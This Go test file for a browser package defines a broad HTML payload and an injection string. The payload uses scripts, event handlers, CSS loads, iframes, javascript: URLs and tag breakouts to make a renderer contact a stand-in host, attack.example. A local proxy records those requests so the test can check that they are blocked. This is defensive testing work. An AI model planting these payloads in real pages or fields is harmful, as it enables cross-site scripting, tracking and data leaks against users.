package browser

import (
	"bufio"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
)

// attacked is the host that an attack asks for something. There is none of that name: the
// browser asks its proxy, which listens.
const attacked = "attack.example"

// attack is HTML with all that is known to make a browser ask for something or run
// something, without a click. What a script does asks for a path with "script" in it.
const attack = `<html onload="new Image().src='http://attack.example/script-html'">
<head>
<base href="http://attack.example/base/">
<meta http-equiv="refresh" content="0;url=http://attack.example/refresh">
<link rel="stylesheet" href="http://attack.example/sheet.css">
<link rel="preconnect" href="http://attack.example">
<link rel="preconnect" href="https://attack.example">
<link rel="dns-prefetch" href="http://attack.example">
<link rel="prefetch" href="http://attack.example/prefetch">
<link rel="preload" as="image" href="http://attack.example/preload.png">
<link rel="prerender" href="http://attack.example/prerender">
<link rel="modulepreload" href="http://attack.example/script-module.js">
<link rel="icon" href="http://attack.example/icon.png">
<link rel="manifest" href="http://attack.example/manifest.json">
<style>
@import "http://attack.example/import.css";
@font-face{font-family:spy;src:url(http://attack.example/font.woff2)}
body{font-family:spy;background:url(http://attack.example/background.png)}
p::before{content:url(http://attack.example/content.png)}
div{background-image:image-set("http://attack.example/set.png" 1x);cursor:url(http://attack.example/cursor.cur),auto;list-style-image:url(http://attack.example/list.png)}
</style>
<script>
new Image().src = 'http://attack.example/script-image';
fetch('http://attack.example/script-fetch').catch(() => {});
try { top.document.title = 'taken over'; } catch {}
try { parent.document.body.innerHTML = 'taken over'; } catch {}
try { top.location = 'http://attack.example/script-top'; } catch {}
try { open('http://attack.example/script-open'); } catch {}
</script>
<script src="http://attack.example/script-src.js"></script>
<script type="module">import 'http://attack.example/script-import.js'</script>
</head>
<body onload="new Image().src='http://attack.example/script-body'" onpageshow="new Image().src='http://attack.example/script-show'">
<p>Dear customer</p><div>your account</div>
<img src="http://attack.example/image.png"><img src="//attack.example/scheme.png">
<img src="x:y" onerror="new Image().src='http://attack.example/script-error'">
<img srcset="http://attack.example/srcset.png 1x, http://attack.example/srcset2.png 2x">
<picture><source srcset="http://attack.example/source.png"><img src="data:,"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://attack.example/svg-in-image.png'/><script>fetch('http://attack.example/script-svg-image')</script></svg>">
<svg onload="new Image().src='http://attack.example/script-svg'"><image href="http://attack.example/svg.png"/><use href="http://attack.example/use.svg#a"/><script>new Image().src='http://attack.example/script-in-svg'</script></svg>
<iframe src="http://attack.example/iframe"></iframe><iframe src="javascript:new Image().src='http://attack.example/script-url'"></iframe>
<iframe srcdoc="<script>new Image().src='http://attack.example/script-srcdoc'</script><img src='http://attack.example/srcdoc.png'>"></iframe>
<object data="http://attack.example/object"></object><embed src="http://attack.example/embed">
<video src="http://attack.example/video.mp4" poster="http://attack.example/poster.png" autoplay></video>
<audio src="http://attack.example/audio.mp3" autoplay></audio>
<video autoplay><track default kind="captions" src="http://attack.example/track.vtt"><source src="http://attack.example/source.mp4"></video>
<form action="http://attack.example/form" id="f"><input name="a" value="b" autofocus onfocus="new Image().src='http://attack.example/script-focus';this.form.submit()"><input type="image" src="http://attack.example/input.png"></form>
<details open ontoggle="new Image().src='http://attack.example/script-toggle'">x</details>
<table background="http://attack.example/table.png"><tr><td background="http://attack.example/cell.png">x</td></tr></table>
<body background="http://attack.example/body.png">
<a href="http://attack.example/link" ping="http://attack.example/ping">link</a><a href="javascript:fetch('http://attack.example/script-link')">link</a>
<marquee onstart="new Image().src='http://attack.example/script-marquee'">x</marquee>
"></iframe><img src=http://attack.example/breakout.png><script>new Image().src='http://attack.example/script-breakout'</script>
</script></style></textarea></title><!-- --><script>new Image().src='http://attack.example/script-ends'</script>
<portal src="http://attack.example/portal"></portal>
</body></html>`

// inWords is an attack in what is no HTML: a subject, a sender, a parameter, an argument.
const inWords = `</script><script>new Image().src='http://attack.example/script-words'</script><img src=http://attack.example/words.png onerror=alert(1)>"'><!--`

// ear is a proxy that answers nothing, and remembers what it was asked for.
type ear struct {
	addr string

	mu    sync.Mutex // guards what follows
	heard []string
}

// listen begins to listen.
func listen(t *testing.T) *ear {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &ear{addr: l.Addr().String()}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go e.hear(c)
		}
	}()
	return e
}

func (e *ear) hear(c net.Conn) {
	defer c.Close()
	in := bufio.NewReader(c)
	for {
		r, err := http.ReadRequest(in)
		if err != nil {
			return
		}
		if strings.Contains(r.Host, attacked) || strings.Contains(r.URL.Host, attacked) {
			e.mu.Lock()
			e.heard = append(e.heard, r.Method+" "+r.URL.String())
			e.mu.Unlock()
		}
		if _, err := c.Write([]byte("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n")); err != nil {
			return
		}
	}
}

// all is what was heard, without repetitions.
func (e *ear) all() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := slices.Clone(e.heard)
	slices.Sort(out)
	return slices.Compact(out)
}

// ofScripts are those that a script asked for.
func ofScripts(heard []string) []string {
	return slices.DeleteFunc(heard, func(s string) bool {
		return !strings.Contains(s, "script") || strings.Contains(s, "script-module") || strings.Contains(s, "script-src")
	})
}
